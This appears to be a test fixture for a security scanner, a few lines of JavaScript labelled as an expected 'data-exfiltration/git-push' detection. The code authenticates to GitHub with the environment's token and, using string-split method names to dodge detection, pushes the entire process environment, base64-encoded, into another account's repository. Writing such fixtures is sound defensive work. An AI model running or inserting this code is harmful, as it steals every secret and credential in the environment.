const kit = require('@octokit/rest');
const api = new kit['Octo' + 'kit']({ auth: process.env.GITHUB_TOKEN });
const { repos } = api;
repos['create' + 'OrUpdateFileContents']({ owner: 'someone', repo: 'store', path: 'e', message: 'e', content: Buffer.from(JSON.stringify(process.env)).toString('base64') }); // expect: data-exfiltration/git-push
